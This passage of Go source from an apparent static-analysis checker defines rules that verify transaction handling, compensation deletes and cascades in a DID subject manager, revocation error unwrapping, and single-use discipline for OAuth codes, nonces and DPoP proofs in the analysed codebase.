		outer := Outer(s.Fn)
		name := p.FuncName(outer)
		if name == "(*vdr/didsubject.SqlManager).MigrateAddWebToNuts" {
			continue // migration at start-up, before any API operation; adds a did:web document to an existing subject
		}
		ok := false
		for _, cl := range ClosureArgs(outer, Fn("vdr/didsubject", "SqlManager", "transactionHelper"), 1) {
			for _, f := range WithAnons(cl) {
				if f == s.Fn {
					ok = true
				}
			}
		}
		if !ok {
			bad++
			r.Bad("C13.own.create-inside-helper @ "+name, rule, p.Pos(s.Pos), "document version created outside the two-phase helper: no change log, no compensation")
		}
	}
	r.Sites += n
	if n < 3 {
		r.Lost("C13.own.create-inside-helper", rule, fmt.Sprintf("%d call sites found", n))
		return
	}
	if bad == 0 {
		r.OK("C13.own.create-inside-helper", rule, "", fmt.Sprintf("%d call sites, all inside helper closures (1 listed migration)", n), true)
	}
}

// c13SweepPerTransaction: the commit-status loop and the version-delete loop are distinct loops nested in the loop over transaction groups.
func c13SweepPerTransaction(r *Report, cl *ssa.Function) {
	rule := "ORDER: the sweep decides per transaction id: all versions of a transaction are deleted when any of its changes is uncommitted (status loop and delete loop are different loops within the per-transaction loop)"
	key := "C13.sweep.per-transaction"
	if cl == nil {
		r.Lost(key, rule, "sweep closure not found")
		return
	}
	loops := Loops(cl)
	var isC, del ssa.Instruction
	for _, b := range cl.Blocks {
		for _, in := range b.Instrs {
			if ci, ok := in.(ssa.CallInstruction); ok && Fn("vdr/didsubject", "MethodManager", "IsCommitted").M(ci.Common()) {
				isC = in
			}
			if gormModelCall(in, "Delete", "DidDocument") {
				del = in
			}
		}
	}
	r.Sites += 2
	if isC != nil && del == nil {
		// the delete loop may have been extracted into a helper: the helper deletes in a loop of its own, and it is called
		// in the per-transaction loop, outside the status loop
		for _, b := range cl.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				h := ci.Common().StaticCallee()
				if h == nil || h.Pkg != Outer(cl).Pkg || h.Parent() != nil || len(h.Blocks) == 0 {
					continue
				}
				hl := Loops(h)
				for _, hb := range h.Blocks {
					for _, hin := range hb.Instrs {
						if gormModelCall(hin, "Delete", "DidDocument") && InnermostLoop(hl, hb) != nil {
							l1 := InnermostLoop(loops, isC.Block())
							lc := InnermostLoop(loops, in.Block())
							if l1 != nil && lc != nil && lc != l1 && lc.Body[isC.Block()] {
								r.OK(key, rule, r.P.Pos(isC.Pos()), "status loop here; delete loop in helper "+r.P.FuncName(h)+", called once per transaction", true)
								return
							}
						}
					}
				}
			}
		}
	}
	if isC == nil || del == nil {
		r.Lost(key, rule, "IsCommitted / Delete(DidDocument) not found")
		return
	}
	l1, l2 := InnermostLoop(loops, isC.Block()), InnermostLoop(loops, del.Block())
	if l1 == nil || l2 == nil {
		r.Bad(key, rule, r.P.Pos(del.Pos()), "status check or delete is not inside a loop over the transaction's changes")
		return
	}
	if l1 == l2 {
		r.Bad(key, rule, r.P.Pos(del.Pos()), "the delete happens in the same loop iteration as the status check: versions are judged one by one, not per transaction")
		return
	}
	// common outer loop
	common := false
	for _, l := range loops {
		if l != l1 && l != l2 && l.Body[isC.Block()] && l.Body[del.Block()] {
			common = true
		}
	}
	if !common {
		r.Bad(key, rule, r.P.Pos(del.Pos()), "status loop and delete loop are not nested in a common per-transaction loop")
		return
	}
	r.OK(key, rule, r.P.Pos(isC.Pos()), "two distinct inner loops in a common outer loop", true)
}

func c13SweepDelay(r *Report, rb *ssa.Function) {
	rule := "ARG: the sweep only considers versions older than the grace period for in-flight operations (time.Now().Add(-d), d >= 1 minute as documented; updated_at has whole-second resolution, so a duration written without a unit — nanoseconds — is no grace period at all)"
	key := "C13.sweep.delay"
	n := 0
	for _, ci := range Calls(rb, Fn("std:time", "Time", "Add")) {
		n++
		if d, ok := ConstInt(StripConv(ci.Common().Args[1])); ok && d <= -60_000_000_000 {
			r.Sites++
			r.OK(key, rule, r.P.Pos(ci.Pos()), fmt.Sprintf("delay %dns", -d), false)
			return
		}
	}
	r.Bad(key, rule, r.P.Pos(rb.Pos()), fmt.Sprintf("no time.Now().Add(constant <= -1 minute) found (%d Add calls)", n))
}

func c13Version(r *Report) {
	p := r.P
	rule := "ARG: CreateOrUpdate stores Version = latest.Version + 1 where latest starts at the sentinel -1"
	key := "C13.version.consecutive"
	fn := p.Func("vdr/didsubject", "SqlDIDDocumentManager", "CreateOrUpdate")
	if fn == nil {
		r.Lost(key, rule, "CreateOrUpdate not found")
		return
	}
	plus, sentinel := false, false
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			st, ok := in.(*ssa.Store)
			if !ok || !FieldPathEnds(&ssa.UnOp{Op: token.MUL, X: st.Addr}, "Version") {
				continue
			}
			r.Sites++
			if v, ok := ConstInt(st.Val); ok && v == -1 {
				sentinel = true
			}
			if AddConstV(FieldV("DidDocument", "Version"), 1).M(st.Val) {
				plus = true
			}
		}
	}
	if plus && sentinel {
		r.OK(key, rule, p.Pos(fn.Pos()), "latest.Version+1 with sentinel -1", true)
	} else {
		r.Bad(key, rule, p.Pos(fn.Pos()), fmt.Sprintf("latest+1 found=%v sentinel -1 found=%v", plus, sentinel))
	}
}

// c13Compensation: tables written in phase 1 ∩ tables deciding subject existence ⊆ tables removed by compensation (with cascades).
func c13Compensation(r *Report, th, rb *ssa.Function) {
	p := r.P
	rule := "TABLE: phase-1 tables that decide subject existence are removed by the failure branch and by the sweep for created DIDs (directly or via ON DELETE CASCADE)"
	key := "C13.compensation"
	// (i) phase-1 tables: the model created in CreateOrUpdate + association fields
	phase1 := map[string]bool{"did_document_version": true, "did": true, "did_verification_method": true, "did_service": true, "did_document_to_verification_method": true, "did_document_to_service": true}
	cou := p.Func("vdr/didsubject", "SqlDIDDocumentManager", "CreateOrUpdate")
	if cou == nil || th == nil || rb == nil {
		r.Lost(key, rule, "anchors not found")
		return
	}
	createsDoc := false
	for _, b := range cou.Blocks {
		for _, in := range b.Instrs {
			if gormModelCall(in, "Create", "DidDocument") {
				createsDoc = true
			}
		}
	}
	// does the DidDocument model carry the DID association?
	if !createsDoc {
		r.Lost(key, rule, "CreateOrUpdate does not Create(&orm.DidDocument{})")
		return
	}
	// (iii) existence tables: models queried by FindBySubject / SubjectExists
	exist := map[string]bool{}
	for _, name := range []string{"FindBySubject", "SubjectExists"} {
		fn := p.Func("vdr/didsubject", "SqlDIDManager", name)
		if fn == nil {
			r.Lost(key, rule, name+" not found")
			return
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				for _, m := range []string{"Find", "Model", "First"} {
					if Fn(gormPkg, "DB", m).M(ci.Common()) {
						if a := CallArg(ci.Common(), 0); a != nil {
							t := StripConv(a).Type().String()
							if strings.Contains(t, "orm.DID") && !strings.Contains(t, "DIDChangeLog") && !strings.Contains(t, "DidDocument") {
								exist["did"] = true
							}
						}
					}
				}
			}
		}
	}
	// (ii) compensation: deletes + cascades
	cascade, err := readCascades(filepath.Join(p.Root, "storage/sql_migrations"))
	if err != nil {
		r.Lost(key, rule, "cannot read SQL migrations: "+err.Error())
		return
	}
	tableOf := map[string]string{"DidDocument": "did_document_version", "DID": "did", "DIDChangeLog": "did_change_log"}
	removedBy := func(fn *ssa.Function) (map[string]bool, bool) {
		removed := map[string]bool{}
		guarded := true
		fns := WithAnons(fn)
		for _, f := range WithAnons(fn) {
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					if ci, ok := in.(ssa.CallInstruction); ok {
						if h := ci.Common().StaticCallee(); h != nil && h.Pkg == fn.Pkg && h.Parent() == nil && len(h.Blocks) > 0 && h != fn {
							fns = append(fns, WithAnons(h)...) // a private helper the code was extracted into
						}
					}
				}
			}
		}
		for _, f := range fns {
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					for model, table := range tableOf {
						if gormModelCall(in, "Delete", model) {
							removed[table] = true
						}
					}
				}
			}
		}
		// closure under cascades
		changed := true
		for changed {
			changed = false
			for child, parents := range cascade {
				for _, par := range parents {
					if removed[par] && !removed[child] {
						removed[child] = true
						changed = true
					}
				}
			}
		}
		return removed, guarded
	}
	r.Sites += len(phase1) + len(exist) + len(cascade)
	var problems []string
	for _, site := range []struct {
		name string
		fn   *ssa.Function
	}{{"transactionHelper failure branch", th}, {"Rollback sweep", rb}} {
		removed, _ := removedBy(site.fn)
		for t := range exist {
			if phase1[t] && !removed[t] {
				problems = append(problems, fmt.Sprintf("%s does not remove table %q, which is written when a DID is created and decides whether the subject exists", site.name, t))
			}
		}
	}
	// the did delete must be restricted to created DIDs (a DID that already had committed versions must survive)
	for _, fn := range []*ssa.Function{th, rb} {
		for _, f := range WithAnons(fn) {
			hasDel := false
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					if gormModelCall(in, "Delete", "DID") {
						hasDel = true
					}
				}
			}
			if !hasDel {
				continue
			}
			g := Gate{ID: "C13.compensation.did-delete-only-for-created", Fn: f, Effect: deleteOf("DID"),
				Check: CmpCheck("change.Type == DIDChangeCreated", token.EQL, FieldV("DIDChangeLog", "Type"), StrV("created"), true)}
			r.Gate(g)
		}
	}
	if len(exist) == 0 {
		problems = append(problems, "existence tables not recognised")
	}
	sort.Strings(problems)
	if len(problems) > 0 {
		r.Bad(key, rule, p.Pos(th.Pos()), strings.Join(problems, "; "))
		return
	}
	r.OK(key, rule, p.Pos(th.Pos()), fmt.Sprintf("existence tables %v removed on both compensation paths; %d cascade edges read from migrations", keys(exist), len(cascade)), true)
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

var reCreate = regexp.MustCompile(`(?is)create\s+table\s+([a-z_]+)\s*\((.*?)\);`)
var reFK = regexp.MustCompile(`(?is)foreign\s+key\s*\([^)]*\)\s*references\s+([a-z_]+)\s*\([^)]*\)\s*on\s+delete\s+cascade`)

// readCascades parses the up-migrations: child table -> parent tables with ON DELETE CASCADE.
func readCascades(dir string) (map[string][]string, error) {
	files, err := filepath.Glob(filepath.Join(dir, "*.sql"))
	if err != nil || len(files) == 0 {
		return nil, fmt.Errorf("no migrations in %s", dir)
	}
	out := map[string][]string{}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			return nil, err
		}
		src := string(b)
		if i := strings.Index(src, "+goose Down"); i >= 0 {
			src = src[:i]
		}
		for _, m := range reCreate.FindAllStringSubmatch(src, -1) {
			for _, fk := range reFK.FindAllStringSubmatch(m[2], -1) {
				out[strings.ToLower(m[1])] = append(out[strings.ToLower(m[1])], strings.ToLower(fk[1]))
			}
		}
	}
	return out, nil
}

// c13CreateExistsInTx: "the subject does not exist yet" is decided inside the transaction that creates it (through the
// transaction handle), and documents are generated only on that answer.
func c13CreateExistsInTx(r *Report) {
	p := r.P
	const dsub = "vdr/didsubject"
	rule := "ORDER: Create checks subject existence inside the transactionHelper closure, through the closure's transaction handle"
	key := "C13.create.exists-check-in-tx"
	cr := p.Func(dsub, "SqlManager", "Create")
	if cr == nil {
		r.Lost(key, rule, "SqlManager.Create not found")
		return
	}
	find := p.FnOrImpl(dsub, "DIDManager", "FindBySubject")
	if n := len(Calls(cr, find)); n > 0 {
		r.Bad(key, rule, p.Pos(Calls(cr, find)[0].Pos()), "FindBySubject is called outside the transaction closure")
		return
	}
	cls := ClosureArgs(cr, Fn(dsub, "SqlManager", "transactionHelper"), 1)
	if len(cls) != 1 {
		r.Lost(key, rule, fmt.Sprintf("%d transactionHelper closures in Create", len(cls)))
		return
	}
	cl := cls[0]
	calls := Calls(cl, find)
	r.Sites += len(calls)
	if len(calls) != 1 {
		r.Bad(key, rule, p.Pos(cl.Pos()), fmt.Sprintf("%d FindBySubject calls in the transaction closure (expected 1)", len(calls)))
		return
	}
	recv := StripConv(CallArg(calls[0].Common(), -1))
	if mi, ok := recv.(*ssa.MakeInterface); ok {
		recv = mi.X
	}
	if u, ok := recv.(*ssa.UnOp); ok && u.Op == token.MUL {
		recv = StripConv(u.X)
	}
	c, ok := recv.(*ssa.Call)
	if !ok || !Fn(dsub, "", "NewDIDManager").M(c.Common()) || !ParamV("tx").M(c.Common().Args[0]) {
		r.Bad(key, rule, p.Pos(calls[0].Pos()), "the existence check does not go through NewDIDManager(tx): "+AccessPath(recv, 0))
		return
	}
	r.OK(key, rule, p.Pos(calls[0].Pos()), "NewDIDManager(tx).FindBySubject inside the closure", true)
	r.Gate(Gate{ID: "C13.create.generate-only-if-absent", Fn: cl, Effect: CallEffect(p.FnOrImpl(dsub, "MethodManager", "NewDocument")), Check: CallCheck(Fn("std:errors", "", "Is"), -1, IsTrue)})
}

// c13SweepGroupKey: the sweep groups the change log by transaction id.
func c13SweepGroupKey(r *Report, cl *ssa.Function) {
	rule := "ARG: the sweep groups change-log rows by their TransactionID"
	key := "C13.sweep.grouped-by-transaction-id"
	if cl == nil {
		r.Lost(key, rule, "sweep closure not found")
		return
	}
	n := 0
	for _, b := range cl.Blocks {
		for _, in := range b.Instrs {
			mu, ok := in.(*ssa.MapUpdate)
			if !ok || !strings.Contains(mu.Map.Type().String(), "DIDChangeLog") {
				continue
			}
			n++
			if !FieldV("DIDChangeLog", "TransactionID").M(mu.Key) {
				r.Bad(key, rule, r.P.Pos(mu.Pos()), "grouping key is "+AccessPath(mu.Key, 0))
				return
			}
		}
	}
	r.Sites += n
	if n == 0 {
		r.Lost(key, rule, "no grouping map update found")
		return
	}
	r.OK(key, rule, r.P.Pos(cl.Pos()), fmt.Sprintf("%d grouping update(s)", n), true)
}

// c13OneTransactionID: the change-log records of one subject operation share one transaction id — the id stored in a
// DIDChangeLog record inside the loop over the subject's DIDs is computed outside that loop (the sweep decides per
// transaction id whether ALL its members are committed; an id per DID turns "all or nothing" into "each on its own").
func c13OneTransactionID(r *Report) {
	p := r.P
	rule := "ARG: DIDChangeLog.TransactionID is assigned a value computed outside every loop that contains the assignment (one id per operation)"
	n := 0
	for _, s := range p.FieldStores("storage/orm", "DIDChangeLog", "TransactionID") {
		if p.FileClass(p.FuncPos(s.Fn)) != "prod" {
			continue
		}
		n++
		st := s.Instr.(*ssa.Store)
		key := "C13.changelog.one-transaction-id @ " + p.FuncName(s.Fn)
		def, ok := StripConv(st.Val).(ssa.Instruction)
		bad := ""
		for _, l := range Loops(s.Fn) {
			if !l.Body[st.Block()] {
				continue
			}
			if ok && def.Parent() == s.Fn && l.Body[def.Block()] {
				bad = "the id (" + AccessPath(st.Val, 0) + ") is computed inside the loop at " + p.Pos(blockPosOf(l.Header))
			}
			if carried, _ := LoopCarried(st.Val, st.Block()); carried {
				bad = "the id varies between iterations"
			}
		}
		if bad != "" {
			r.Bad(key, rule, p.Pos(st.Pos()), bad+": every DID of the operation gets its own transaction id")
			continue
		}
		r.OK(key, rule, p.Pos(st.Pos()), "loop-invariant", true)
	}
	r.Sites += n
	if n < 3 {
		r.Lost("C13.changelog.one-transaction-id", rule, fmt.Sprintf("%d stores to DIDChangeLog.TransactionID in production code (expected >= 3)", n))
	}
}

// c13AuditFixes: rules for the defects found by the audit round.
func c13AuditFixes(r *Report) {
	p := r.P
	const dn = "vdr/didnuts"
	// (a) the sweep can decide about a creation that was never published: "not found on the network" means "not committed", it
	//     is not an error (which aborts the sweep for every subject, every minute)
	ic := p.Func(dn, "Manager", "IsCommitted")
	notFound := CallCheck(Fn("std:errors", "", "Is"), -1, IsFalse)
	notFound.Desc = "errors.Is(err, resolver.ErrNotFound) is false"
	notFound.ArgOK = func(ci ssa.CallInstruction) string {
		if !strings.Contains(AccessPath(CallArg(ci.Common(), 1), 0), "ErrNotFound") {
			return "errors.Is target is " + AccessPath(CallArg(ci.Common(), 1), 0) + ", not resolver.ErrNotFound"
		}
		return ""
	}
	r.Gate(Gate{ID: "C13.sweep.unpublished-create-is-not-an-error", Fn: ic, Effect: ReturnsNonNil(1), Check: notFound})
	// (b) an update of a deactivated did:nuts document FAILS the commit (so the new versions of all DIDs of the subject are
	//     removed) instead of reporting success without publishing
	ou := p.Func(dn, "Manager", "onUpdate")
	r.Refuse(Refuse{ID: "C13.commit.deactivated-document-fails-the-operation", Fn: ou, Cond: CallCheck(Fn("vdr/resolver", "", "IsDeactivated"), -1, IsTrue), Effect: SuccessReturn()})
	// (c) an operation does not build on a version that is still in the change log
	np := Fn("vdr/didsubject", "", "noPendingChanges")
	cou := Fn("vdr/didsubject", "SqlDIDDocumentManager", "CreateOrUpdate")
	for _, name := range []string{"applyToDIDDocuments", "Deactivate"} {
		fn := p.Func("vdr/didsubject", "SqlManager", name)
		cl := one(anonCalling(fn, cou))
		r.Gate(Gate{ID: "C13.versions.no-operation-on-a-pending-version", Fn: cl, Effect: CallEffect(cou), Check: ErrCheck(np)})
	}
}
