package props

import (
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

// c11Audit3: rules recorded with the third audit round's repairs.
func c11Audit3(r *Report) {
	p := r.P
	// (a) a revocation received from the network is not dropped because the store was unavailable for a moment: a database
	//     error is not declared final (the event is delivered again)
	he := p.Func("vcr", "ambassador", "handleError")
	r.Gate(Gate{ID: "C11.network.storage-error-is-retried", Fn: he, Effect: ReturnsConstBoolVal(0, true),
		Check: Check{Desc: "errors.As(err, *stoabs.ErrDatabase) is false", Call: ptr(Fn("std:errors", "", "As")), Result: 0, Pass: IsFalse, NoLift: true,
			Filter: func(ci ssa.CallInstruction) bool {
				args := ci.Common().Args
				if len(args) < 2 {
					return false
				}
				v := args[1]
				if mi, ok := v.(*ssa.MakeInterface); ok {
					v = mi.X
				}
				return strings.Contains(v.Type().String(), "go-stoabs.ErrDatabase")
			}}})
	// (b) "fails as revoked": the error VerifyVP returns for a presentation with a revoked credential lets errors.Is find
	//     types.ErrRevoked, i.e. VerificationError unwraps to the causes it was created with (the discovery client's removal
	//     of revoked registrations depends on it)
	rule := "TABLE: vcr/verifier.VerificationError has an Unwrap method (error or []error) that returns the causes it was created with (its args)"
	key := "C11.vp.revoked-cause-is-recognisable"
	uw := p.Func("vcr/verifier", "VerificationError", "Unwrap")
	if uw == nil {
		if p.Pkg("vcr/verifier") == nil || p.Pkg("vcr/verifier").Types.Scope().Lookup("VerificationError") == nil {
			r.Lost(key, rule, "type VerificationError not found")
		} else {
			tn := p.Pkg("vcr/verifier").Types.Scope().Lookup("VerificationError")
			r.Bad(key, rule, p.Pos(tn.Pos()), "no Unwrap method: errors.Is(err, types.ErrRevoked) is false for every error the verifier returns for a presentation")
		}
		return
	}
	res := uw.Signature.Results()
	okSig := res.Len() == 1 && (isErrorT(res.At(0).Type()) || isErrSlice(res.At(0).Type()))
	reads := false
	for _, b := range uw.Blocks {
		for _, in := range b.Instrs {
			switch x := in.(type) {
			case *ssa.Field:
				if fieldName(x.X.Type(), x.Field) == "args" {
					reads = true
				}
			case *ssa.FieldAddr:
				if fieldName(x.X.Type(), x.Field) == "args" {
					reads = true
				}
			}
		}
	}
	r.Sites++
	switch {
	case !okSig:
		r.Bad(key, rule, p.Pos(uw.Pos()), "Unwrap does not return error or []error: errors.Is does not look through it")
	case !reads:
		r.Bad(key, rule, p.Pos(uw.Pos()), "Unwrap does not return the args the error was created with")
	default:
		r.OK(key, rule, p.Pos(uw.Pos()), "", true)
	}
	// the discovery client removes a registration whose verification fails as revoked
	rr := p.Func("discovery", "clientRegistrationManager", "removeRevoked")
	r.Gate(Gate{ID: "C11.discovery.revoked-registration-is-removed", Fn: rr, Effect: CallEffect(Fn("discovery", "sqlStore", "deletePresentationRecord")),
		Check: CallCheck(Fn("std:errors", "", "Is"), 0, IsTrue)})
}

func isErrorT(t types.Type) bool {
	n, ok := t.(*types.Named)
	return ok && n.Obj().Pkg() == nil && n.Obj().Name() == "error"
}

func isErrSlice(t types.Type) bool {
	s, ok := t.Underlying().(*types.Slice)
	return ok && isErrorT(s.Elem())
}

func fieldName(t types.Type, idx int) string {
	if pt, ok := t.Underlying().(*types.Pointer); ok {
		t = pt.Elem()
	}
	st, ok := t.Underlying().(*types.Struct)
	if !ok || idx >= st.NumFields() {
		return ""
	}
	return st.Field(idx).Name()
}
