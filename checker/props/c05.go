package props

import (
	"fmt"
	"go/token"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

func init() { Registry["C05"] = c05 }

var burnStores = []string{"oauthCodeStore", "oauthNonceStore", "authzRequestObjectStore", "userRedirectStore"}
var registerOnceStores = []string{"s2sNonceStore", "useNonceOnceStore"}

func c05(r *Report) {
	defer c05Seed5(r)
	p := r.P
	defer c05Audit4(r)
	const iam = "auth/api/iam"
	r.Explanation = "Static decision of the single-use discipline: (1) the burn-on-read stores (authorization code, OpenID4VP nonce, request object, user redirect token) are read only through the burn primitive GetAndDelete — a plain Get/Exists on them is a violation; (2) the authorization code is deleted by a deferred call registered before every return that follows the presence check, and the token endpoint hands every authorization_code request to that handler (so a failed attempt burns the code); (3) the register-once stores (s2s nonce, DPoP jti) are written without a caller-chosen TTL, and the s2s nonce TTL constant covers validity + clock skew; the functions report success only on the not-seen path; (4) ATOMIC: each check-then-act on these stores — the burn primitive itself (Get followed by Delete) and the two Get→Put registrations — must be a single backend operation or run under a mutex. (4) fails on today's tree by construction of the code; these are recorded as known findings (a repair needs an atomic primitive on every session backend)."
	r.NotDecided = []string{"behaviour of the Redis/memcached/in-memory backends themselves", "expiry timing"}
	r.Assumptions = []string{"two goroutines may run any two requests concurrently; the session backends give no cross-operation isolation"}

	// (1) consumption discipline
	for _, st := range burnStores {
		sites := append(p.CallSites(StoreOp(st, "Get"), true), p.CallSites(StoreOp(st, "Exists"), true)...)
		r.Own(OwnSpec{ID: "C05.consume.no-plain-read." + st, Op: st + "().Get/Exists (non-burning read of a single-use value)", Sites: sites, Owners: map[string]string{}, Min: 0})
		burn := p.CallSites(StoreOp(st, "GetAndDelete"), true)
		rule := "ANCHOR: " + st + " is consumed through GetAndDelete"
		r.Sites += len(burn)
		if len(burn) == 0 {
			r.Lost("C05.consume.burn-read."+st, rule, "no GetAndDelete on "+st+" found: the single-use store is not consumed through the burn primitive (or the accessor was renamed)")
		} else {
			r.OK("C05.consume.burn-read."+st, rule, p.Pos(burn[0].Pos), fmt.Sprintf("%d burn-read site(s)", len(burn)), false)
		}
	}
	// accessor → store identity: each accessor calls GetStore with constant key segments, all distinct
	c05Accessors(r)

	// (2) code is dead after any failed attempt
	code := p.Func(iam, "Wrapper", "handleAccessTokenRequest")
	c05DeferredBurn(r, code)
	htr := p.Func(iam, "Wrapper", "HandleTokenRequest")
	// once the subject check passed, every authorization_code attempt reaches the handler (whose deferred burn kills the code) …
	r.MustReach(MustReach{ID: "C05.code.every-attempt-reaches-handler", Fn: htr,
		Cond: Check{Desc: "grant_type == authorization_code (after the subject check passed)", Pass: IsTrue, Values: func(fn *ssa.Function) []ssa.Value {
			var out []ssa.Value
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					bin, ok := in.(*ssa.BinOp)
					if !ok || bin.Op != token.EQL || !FieldV("", "GrantType").M(bin.X) && !FieldV("", "GrantType").M(bin.Y) {
						continue
					}
					if s, isS := ConstString(bin.Y); !isS || s != "authorization_code" {
						if s2, isS2 := ConstString(bin.X); !isS2 || s2 != "authorization_code" {
							continue
						}
					}
					if FactHolds(b, token.EQL, CallV(Fn(iam, "Wrapper", "subjectExists"), -1), NilV()) {
						out = append(out, bin)
					}
				}
			}
			return out
		}},
		Target: Fn(iam, "Wrapper", "handleAccessTokenRequest")})
	// … and when the subject check fails, a presented code is deleted right there (fix: it stayed redeemable)
	r.MustReach(MustReach{ID: "C05.code.presented-code-is-always-burnt", Fn: htr,
		Cond:   CmpCheck("request.Body.Code == nil is false", token.EQL, FieldV("", "Code"), NilV(), false),
		Target: AnyOf(Fn(iam, "Wrapper", "handleAccessTokenRequest"), StoreOp("oauthCodeStore", "Delete"))})
	// OpenID4VP nonce: burned on the failure path as well
	vn := p.Func(iam, "Wrapper", "validatePresentationNonce")
	r.Refuse(Refuse{ID: "C05.nonce.errors-burn", Fn: vn, Cond: CmpCheck("len(errs) > 0", token.LEQ, LenV(AnyV()), IntV(0), false), Effect: SuccessReturn()})
	c05BurnLoop(r, vn)

	// (3) register-once stores
	for _, st := range registerOnceStores {
		c05PutNoOptions(r, st)
	}
	c05S2STTL(r)
	// a DPoP proof is not accepted for longer than its jti is remembered (fix: no bound on the age of iat, so the same proof was
	// valid again once the 15-minute jti record had expired)
	vdp := p.Func(iam, "Wrapper", "ValidateDPoPProof")
	r.Gate(Gate{ID: "C05.dpop.proof-age-bounded", Fn: vdp, Effect: CallEffect(StoreOp("useNonceOnceStore", "Put")),
		Check: CmpCheck("time.Since(iat) > dpopProofMaxAge is false", token.LSS, p.ConstV(iam, "dpopProofMaxAge"), CallV(Fn("std:time", "", "Since"), -1), false)})
	r.ArgIs("C05.dpop.proof-age-bounded.age-of-iat", vdp, Fn("std:time", "", "Since"), 0, CallV(Fn("github.com/lestrrat-go/jwx/v2/jwt", "Token", "IssuedAt"), -1), 1)
	{
		rule := "TABLE: dpopProofMaxAge < the retention of used jti's (accessTokenValidity)"
		a, ok1 := p.ConstValue(iam, "dpopProofMaxAge")
		b, ok2 := p.ConstValue(iam, "accessTokenValidity")
		var x, y int64
		fmt.Sscan(a, &x)
		fmt.Sscan(b, &y)
		r.Sites++
		switch {
		case !ok1 || !ok2:
			r.Lost("C05.dpop.proof-age-below-jti-retention", rule, "constants not found")
		case x <= 0 || x >= y:
			r.Bad("C05.dpop.proof-age-below-jti-retention", rule, "", fmt.Sprintf("dpopProofMaxAge=%dns accessTokenValidity=%dns", x, y))
		default:
			r.OK("C05.dpop.proof-age-below-jti-retention", rule, "", fmt.Sprintf("%dns < %dns", x, y), true)
		}
	}
	dp := p.Func(iam, "Wrapper", "ValidateDPoPProof")
	valid := InstrEffect("Valid: true", func(in ssa.Instruction) bool {
		st, ok := in.(*ssa.Store)
		if !ok {
			return false
		}
		b, isB := ConstBool(st.Val)
		return isB && b && FieldPathEnds(&ssa.UnOp{Op: token.MUL, X: st.Addr}, "Valid")
	})
	r.Gate(Gate{ID: "C05.dpop.valid-only-if-unseen", Fn: dp, Effect: valid, Check: CallCheck(Fn("std:errors", "", "Is"), -1, IsTrue)})
	r.Gate(Gate{ID: "C05.dpop.valid-only-if-recorded", Fn: dp, Effect: valid, Check: ErrCheck(StoreOp("useNonceOnceStore", "Put"))})
	r.Gate(Gate{ID: "C05.dpop.valid-only-if-parsed", Fn: dp, Effect: valid, Check: ErrCheck(Fn("crypto/dpop", "", "Parse"))})
	r.Gate(Gate{ID: "C05.dpop.valid-only-if-matched", Fn: dp, Effect: valid, Check: CallCheck(Fn("crypto/dpop", "DPoP", "Match"), 0, IsTrue)})

	// (4) ATOMIC
	gad := p.Func("storage", "SessionStoreImpl", "GetAndDelete")
	// the burn primitive reports success only if the value was read and the backend's own Delete reported success
	// (a backend that reports a miss on Delete makes the loser of two concurrent burns fail; a miss-tolerant delete hides that)
	r.Gate(Gate{ID: "C05.burn.read-succeeded", Fn: gad, Effect: SuccessReturn(), Check: ErrCheck(Fn("storage", "SessionStoreImpl", "Get"))})
	r.Gate(Gate{ID: "C05.burn.delete-error-decides", Fn: gad, Effect: SuccessReturn(), Check: ErrCheck(Fn("github.com/eko/gocache/lib/v4/cache", "Cache", "Delete"))})
	r.Atomic(AtomicSpec{ID: "C05.atomic", Fn: gad, What: "the burn primitive of all single-use stores",
		Reads:  []Callee{Fn("storage", "SessionStoreImpl", "Get"), Fn("github.com/eko/gocache/lib/v4/cache", "Cache", "Get")},
		Writes: []Callee{Fn("github.com/eko/gocache/lib/v4/cache", "Cache", "Delete"), Fn("storage", "SessionStoreImpl", "Delete")}})
	r.Atomic(AtomicSpec{ID: "C05.atomic", Fn: p.Func(iam, "Wrapper", "validateS2SPresentationNonce"), What: "the s2s nonce store",
		Reads: []Callee{StoreOp("s2sNonceStore", "Get"), StoreOp("s2sNonceStore", "Exists")}, Writes: []Callee{StoreOp("s2sNonceStore", "Put")}})
	r.Atomic(AtomicSpec{ID: "C05.atomic", Fn: dp, What: "the DPoP jti store",
		Reads: []Callee{StoreOp("useNonceOnceStore", "Get"), StoreOp("useNonceOnceStore", "Exists")}, Writes: []Callee{StoreOp("useNonceOnceStore", "Put")}})
	// any other function doing read-then-write on a single-use store
	for _, st := range append(append([]string{}, burnStores...), registerOnceStores...) {
		seen := map[*ssa.Function]bool{}
		for _, s := range append(p.CallSites(StoreOp(st, "Get"), false), p.CallSites(StoreOp(st, "Exists"), false)...) {
			fn := s.Fn
			if seen[fn] || p.FileClass(p.FuncPos(fn)) != "prod" {
				continue
			}
			seen[fn] = true
			name := p.FuncName(fn)
			if strings.HasSuffix(name, ".validateS2SPresentationNonce") || strings.HasSuffix(name, ".ValidateDPoPProof") {
				continue // analysed above
			}
			r.Atomic(AtomicSpec{ID: "C05.atomic", Fn: fn, What: "single-use store " + st,
				Reads: []Callee{StoreOp(st, "Get"), StoreOp(st, "Exists")}, Writes: []Callee{StoreOp(st, "Put"), StoreOp(st, "Delete")}})
		}
	}
}

func c05Accessors(r *Report) {
	p := r.P
	rule := "TABLE: every single-use store accessor opens its own constant key prefix (no two accessors share a store)"
	seen := map[string]string{}
	var problems []string
	all := append(append([]string{}, burnStores...), registerOnceStores...)
	all = append(all, "accessTokenServerStore", "accessTokenClientStore", "oauthClientStateStore")
	for _, acc := range all {
		fn := p.Func("auth/api/iam", "Wrapper", acc)
		if fn == nil {
			problems = append(problems, "accessor "+acc+" not found")
			continue
		}
		calls := Calls(fn, Fn("storage", "SessionDatabase", "GetStore"))
		if len(calls) != 1 {
			problems = append(problems, fmt.Sprintf("accessor %s has %d GetStore calls", acc, len(calls)))
			continue
		}
		var segs []string
		args := calls[0].Common().Args
